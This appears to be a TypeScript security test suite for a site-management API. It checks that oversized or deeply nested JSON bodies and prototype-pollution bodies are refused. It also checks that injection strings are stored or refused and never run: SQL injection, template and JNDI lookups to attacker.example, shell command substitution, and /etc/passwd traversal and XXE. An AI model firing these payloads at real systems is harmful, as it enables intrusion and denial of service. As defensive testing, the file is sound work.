import { deepStrictEqual as same } from 'node:assert/strict'
import { operations, type Operation } from '@frontdesk/contracts'
import type { CaseGroup } from '../../case.ts'
import { operationIds } from '../../cells.ts'
import { ensure, isProblem, isSuccess } from '../../check.ts'
import { openSite, sharedSite } from '../../practice.ts'
import { specimenOf } from '../../specimens.ts'

const withBody = operationIds.filter((id) => (operations[id] as Operation).body !== undefined)

/** Text that grows when it is parsed, compared or put in order, each below the limit of a body. */
const growing: Readonly<Record<string, string>> = {
  'deep arrays': '['.repeat(100_000),
  'deep objects': '{"a":'.repeat(40_000),
  'deep and closed': `${'['.repeat(100_000)}${']'.repeat(100_000)}`,
  'names that collide': `{${Array.from({ length: 15_000 }, (_, index) => `"${index * 65_536}":0`).join()}}`,
  'a number of 200,000 digits': `{"Amount":${'9'.repeat(200_000)}}`,
  'an exponent without end': `{"Amount":1e${'9'.repeat(200_000)}}`,
  'a string for patterns that backtrack': `{"EmailAddress":"${'a@'.repeat(100_000)}"}`,
  'escapes for half a megabyte': `{"Name":"${'\\u0041'.repeat(40_000)}"}`,
}

const polluting = [
  '{"__proto__":{"isAdmin":true,"Name":"x"}}',
  '{"constructor":{"prototype":{"isAdmin":true}}}',
  '{"Name":"x","Address":{"__proto__":{"Locality":"y"}}}',
  '{"Name":"x","__proto__":null}',
  '{"Name":"x","\\u005f\\u005fproto\\u005f\\u005f":{"a":1}}',
  '[{"__proto__":[]}]',
]

export const bodies: CaseGroup = {
  title: 'attacks: bodies',
  cases: [
    {
      title: 'A body that is made to be slow is refused by every operation, and others are answered meanwhile',
      async run(system) {
        const { SiteSlug } = await sharedSite(system)
        let longest = 0
        const beside = async (slow: Promise<unknown>) => {
          const started = performance.now()
          await system.success('listSites', { query: { pageSize: 1 } })
          longest = Math.max(longest, performance.now() - started)
          await slow
        }
        for (const [name, body] of Object.entries(growing))
          for (const id of withBody)
            await beside(
              system.call(id, { ...specimenOf(id, SiteSlug), body }).then((answer) => {
                ensure(answer.status === 400, answer, `${id} takes ${name}`)
                isProblem(answer, { status: 400 })
              }),
            )
        // A machine under load may take a second; seconds would be an attack that works.
        if (longest > 3_000) throw new Error(`another request took ${Math.round(longest)} ms`)
      },
    },
    {
      title: 'Members of the prototype are refused, and leave no trace in later answers',
      async run(system) {
        for (const body of polluting) isProblem(await system.call('createSite', { body }), { status: 400 })
        const site = await openSite(system, { body: { Name: 'After the attack' } })
        const call = { params: { SiteIdentifier: site.SiteSlug } }
        const { Identity } = isSuccess(await system.call('getSiteIdentity', call), 'getSiteIdentity', 200)
        same((Identity as { Name: string }).Name, 'After the attack')
      },
    },
    {
      title: 'Text for other interpreters is stored or refused, and never run',
      async run(system) {
        const { SiteSlug } = await openSite(system)
        const params = { SiteIdentifier: SiteSlug }
        const texts = [
          "'; drop table sites; --",
          "' || pg_sleep(5) || '",
          '$$; select pg_sleep(5); $$',
          '#{7*7} <%= 7*7 %> jndi:ldap://attacker.example/a',
          '{{constructor.constructor("return process")()}}',
          '%(asctime)s %n%n%n',
          '`id`; $(id) | id',
          '../../../../etc/passwd',
          '<!ENTITY x SYSTEM "file:///etc/passwd">',
        ]
        for (const MapPlaceId of texts) {
          const started = performance.now()
          const answer = await system.call('changeSite', { params, body: { MapPlaceId } })
          ensure([200, 400].includes(answer.status), answer, 'neither stored nor refused')
          if (answer.status === 200) ensure(answer.text.includes('MapPlaceId'), answer, 'it is lost')
          if (performance.now() - started > 4_500) throw new Error(`${MapPlaceId} took as long as it says`)
        }
        const asId = await system.call('getSiteIdentity', { params: { SiteIdentifier: "x'or'1'='1" } })
        isProblem(asId, { status: 404, code: 'site_not_found' })
        const query = { Sites: "s' or '1'='1" }
        isProblem(await system.call('listSites', { query }), { status: 400 })
      },
    },
  ],
}
